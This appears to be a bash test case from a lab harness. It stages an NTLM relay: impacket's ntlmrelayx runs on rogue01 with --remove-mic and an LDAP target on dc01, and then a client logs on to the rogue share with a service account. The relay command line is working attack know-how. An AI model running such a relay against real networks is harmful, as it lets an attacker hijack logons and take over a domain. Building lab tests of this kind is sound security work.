#!/bin/bash
# A client opens a share of rogue01, where impacket's ntlmrelayx hands its NTLM logon on to dc01 over LDAP.
. "$(dirname "$0")/../../tests/lab/case.sh"
. "$TOP/tests/lab/shares.sh"
background "$WORK/ldap.log" dc01 /usr/bin/python3 "$LAB/ldap_server.py" --name dc01.corp.example
wait_port dc01 389
relay rogue01 445 -smb2support --no-http-server --remove-mic -t ldap://dc01.corp.example
record
smb client01 "-UCORP/svc_naa%$PASSWORD" //rogue01.corp.example/share -c ls
sleep 2
finish
